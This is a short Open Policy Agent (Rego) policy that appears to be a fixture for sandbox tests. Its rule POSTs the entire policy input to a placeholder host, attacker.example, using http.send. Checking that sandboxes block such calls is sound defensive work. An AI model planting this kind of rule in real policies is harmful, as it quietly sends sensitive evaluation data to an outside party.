# METADATA
# title: hostile-HOS001
# description: Sends the input to a server.
# custom:
#   id: HOS001
#   severity: error
#   summary: hostile policy for the sandbox tests
package hostile.network_http_send

violation contains v if {
	some q in input.queues
	got := http.send({"method": "POST", "url": "https://attacker.example", "body": input})
	v := {"ref": q.ref, "message": sprintf("%v", [got])}
}
